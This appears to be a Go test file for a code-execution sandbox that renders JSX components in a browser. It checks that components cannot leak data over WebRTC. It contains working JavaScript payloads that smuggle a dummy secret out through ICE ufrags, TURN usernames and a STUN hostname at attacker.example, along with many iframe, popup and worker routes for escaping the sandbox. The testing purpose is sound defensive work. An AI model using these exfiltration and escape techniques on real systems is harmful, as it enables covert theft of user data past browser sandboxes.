package browser

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/codeexec/codeexec-operator/internal/jsxbuild"
)

// rtcLib is the attack of issue 11: a hand-written SDP answer whose
// ice-ufrag is the data (base64) and a remote host candidate on the wire's
// peer (STUN binding requests carry the ufrag in USERNAME), and ICE servers
// on the peer (UDP STUN, TURN over TCP with the data as user name, and a
// STUN server whose host name is the data, for DNS).
const rtcLib = `
const SECRET = 'cxsecret' + 'Q1W2E3';
const UFRAG = btoa(SECRET).replace(/=/g, '');
async function rtcAnswer(PC, label) {
  const pc = new PC();
  pc.createDataChannel('x');
  const offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  const fp = Array.from({ length: 32 }, () => 'AB').join(':');
  const sdp = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
    'a=ice-ufrag:' + UFRAG + label, 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', 'a=fingerprint:sha-256 ' + fp,
    'a=setup:active', 'a=mid:0', 'a=sctp-port:5000', ''].join('\r\n');
  await pc.setRemoteDescription({ type: 'answer', sdp });
  await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 10.99.0.2 8801 typ host', sdpMid: '0', sdpMLineIndex: 0 });
  return 'sent';
}
async function rtcServers(PC, label) {
  const pc = new PC({ iceServers: [{ urls: 'stun:10.99.0.2:3478' }, { urls: 'turn:10.99.0.2:3478?transport=tcp', username: SECRET + label, credential: 'p' }, { urls: 'stun:' + SECRET + label + '.attacker.example:19302' }] });
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  return 'gathering';
}
const quine = (scripts) => {
  const f = document.createElement('iframe');
  f.srcdoc = '<div id="root"></div>' + scripts.map((s) => '<script>' + s.textContent + '</' + 'script>').join('');
  document.body.appendChild(f);
  return 'child made';
};
`

func attackComponent(code string) string {
	return `import React, { useEffect, useState } from 'react';
` + rtcLib + `
export default function Attack() {
  const [log, setLog] = useState([]);
  useEffect(() => {
    const out = (m) => setLog((l) => l.concat([String(m)]));
    (async () => { ` + code + ` })().then((v) => out('RESULT ' + v), (e) => out('ERR ' + (e && e.name) + ': ' + (e && e.message)));
  }, []);
  return <pre>{log.join('\n')}</pre>;
}
`
}

// webrtcRoutes are the ways a component can try to reach ICE, STUN or
// TURN, directly and through every fresh realm it can make.
var webrtcRoutes = []struct{ name, code string }{
	{"sdp answer", `return rtcAnswer(RTCPeerConnection, 'main');`},
	{"ice servers stun turn dns", `return rtcServers(RTCPeerConnection, 'srv');`},
	{"webkit prefix", `return rtcAnswer(webkitRTCPeerConnection, 'webkit');`},
	{"globalThis lookup", `return rtcServers(globalThis['RTC' + 'PeerConnection'], 'gt');`},
	{"ice transport", `const T = globalThis.RTCIceTransport; if (!T) throw new Error('no RTCIceTransport'); const t = new T(); t.gather({ iceServers: [{ urls: 'stun:10.99.0.2:3478' }] }); return 'gathering';`},
	{"about:blank child", `const f = document.createElement('iframe'); document.body.appendChild(f); return rtcAnswer(f.contentWindow.RTCPeerConnection, 'blank');`},
	{"window index child", `const f = document.createElement('iframe'); document.body.appendChild(f); return rtcAnswer(window[0].RTCPeerConnection, 'idx');`},
	{"named child", `document.body.insertAdjacentHTML('beforeend', '<iframe name="cxk"></iframe>'); return rtcAnswer(window.cxk.RTCPeerConnection, 'named');`},
	{"srcdoc child after load", `const f = document.createElement('iframe'); f.srcdoc = '<p>x</p>'; document.body.appendChild(f); await new Promise((r) => { f.onload = r; }); return rtcAnswer(f.contentWindow.RTCPeerConnection, 'srcdoc');`},
	{"detached and reattached child", `const f = document.createElement('iframe'); document.body.appendChild(f); f.remove(); document.body.appendChild(f); return rtcAnswer(f.contentWindow.RTCPeerConnection, 'again');`},
	{"document.open and write", "document.open(); document.write('<div id=\"root\"></div><iframe id=\"w\"></iframe>'); document.close(); let r; " +
		"try { r = await rtcAnswer(document.getElementById('w').contentWindow.RTCPeerConnection, 'write'); } catch (e) { r = e.name; } " +
		"try { r += ' / ' + await rtcAnswer(RTCPeerConnection, 'write2'); } catch (e) { r += ' / ' + e.name; } " +
		"document.getElementById('root').textContent = 'RESULT ' + r; return r;"},
	{"javascript: child", `const f = document.createElement('iframe'); f.src = 'javascript:"<script>new RTCPeerConnection()<\/script>"'; document.body.appendChild(f); return 'made';`},
	{"window.open", `const w = window.open('about:blank'); if (!w) throw new Error('no popup'); return rtcAnswer(w.RTCPeerConnection, 'popup');`},
	{"blob worker", `const w = new Worker(URL.createObjectURL(new Blob(['new RTCPeerConnection()'], { type: 'text/javascript' }))); return 'worker';`},
	// The child realm runs the document's own (hashed, so allowed) scripts.
	{"srcdoc child running every script", `if (window.parent !== window.top) { return rtcAnswer(RTCPeerConnection, 'quine'); } return quine(Array.from(document.scripts));`},
	{"srcdoc child running the component only", `if (window.parent !== window.top) { return rtcAnswer(RTCPeerConnection, 'quine1'); } return quine(Array.from(document.scripts).slice(-1));`},
	{"nested srcdoc child", `if (window.parent.parent !== window.top && window.parent !== window.top) { return rtcAnswer(RTCPeerConnection, 'nested'); } return quine(Array.from(document.scripts));`},
}

// testWebRTC renders each route on the host page and on the bare host page
// (the document's defences alone), in a browser without any host-side
// WebRTC policy: nothing may reach the second network.
func testWebRTC(t *testing.T, h *harness) {
	for _, page := range []string{"/host.html", "/bare.html"} {
		for _, r := range webrtcRoutes {
			t.Run(strings.TrimSuffix(strings.TrimPrefix(page, "/"), ".html")+"/"+r.name, func(t *testing.T) {
				out, err := jsxbuild.Compile(context.Background(), []byte(attackComponent(r.code)), jsxbuild.Options{})
				if err != nil {
					t.Fatal(err)
				}
				tb := h.renderOn(t, page, out.HTML)
				text := tb.waitFrameText("the attempt's result", func(s string) bool { return strings.Contains(s, "RESULT") || strings.Contains(s, "ERR") })
				// ICE checks start within milliseconds and repeat; give
				// every child realm time to load and try.
				if err := chromedp.Do(tb.ctx, chromedp.Sleep(4*time.Second)); err != nil {
					t.Fatal(err)
				}
				t.Logf("frame: %q", text)
				tb.check(false)
			})
		}
	}
}

// valuesComponent computes values from literals that hold "</script",
// "<!--", "<script" and NUL in every place source text can hold them; the
// browser test compares what the code sees with what was written.
const valuesComponent = "const tag = (s, ...v) => JSON.stringify([Array.from(s), Array.from(s.raw), v]);\n" +
	"const values = {\n" +
	"  rawScript: String.raw`<script>`,\n" +
	"  rawClose: String.raw`</script><!--${1}\\n<SCRIPT`,\n" +
	"  tagged: tag`a</script>${2}<!--b\\u0041`,\n" +
	"  template: `x</script>${3}<!--<script>`,\n" +
	"  nested: `a${`<!--${`</script>`}`}b`,\n" +
	"  regexSource: /<!--x/.source,\n" +
	"  regexFlags: /<\\/script>|[</script]<!--/gi.flags,\n" +
	"  regexClass: /[</script]<!--/i.source,\n" +
	"  regexTest: String(/<!--<script>/.test('a<!--<script>')),\n" +
	"  string: '</script><!--<script>\\x00',\n" +
	"  jsxText: <b>&lt;/script&gt;&lt;!--&lt;script&gt;</b>.props.children,\n" +
	"  jsxAttr: <b title=\"</script><!--<script>\" />.props.title,\n" +
	"  comment: 1, // </script><!--<script>\n" +
	"  /* </script> <!-- */ after: 2,\n" +
	"};\n" +
	"export default () => <pre id=\"values\">{JSON.stringify(values)}</pre>;\n"

var wantValues = map[string]any{
	"rawScript":   "<script>",
	"rawClose":    "</script><!--1\\n<SCRIPT",
	"tagged":      `[["a</script>","<!--bA"],["a</script>","<!--b\\u0041"],[2]]`,
	"template":    "x</script>3<!--<script>",
	"nested":      "a<!--</script>b",
	"regexSource": "<!--x",
	"regexFlags":  "gi",
	"regexClass":  "[</script]<!--",
	"regexTest":   "true",
	"string":      "</script><!--<script>\x00",
	"jsxText":     "</script><!--<script>",
	"jsxAttr":     "</script><!--<script>",
	"comment":     float64(1),
	"after":       float64(2),
}

func testValues(t *testing.T, h *harness) {
	tb := h.render(t, valuesComponent)
	tb.waitMessage("rendered")
	text := tb.waitFrameText("the values", func(s string) bool { return strings.HasPrefix(s, "{") })
	var got map[string]any
	if err := json.Unmarshal([]byte(text), &got); err != nil {
		t.Fatalf("%v: %q", err, text)
	}
	for k, want := range wantValues {
		if got[k] != want {
			t.Errorf("%s: the code sees %q, the source says %q", k, got[k], want)
		}
	}
	// The browser parsed the document into exactly its own scripts: boot,
	// React, ReactDOM and the component, all in <head>/<body>, none cut.
	var scripts int
	if err := frameEval(tb.ctx, `document.querySelectorAll('script').length`, &scripts); err != nil {
		t.Fatal(err)
	}
	if scripts != 4 {
		t.Errorf("the frame has %d script elements, want 4", scripts)
	}
	tb.checkContained()
}
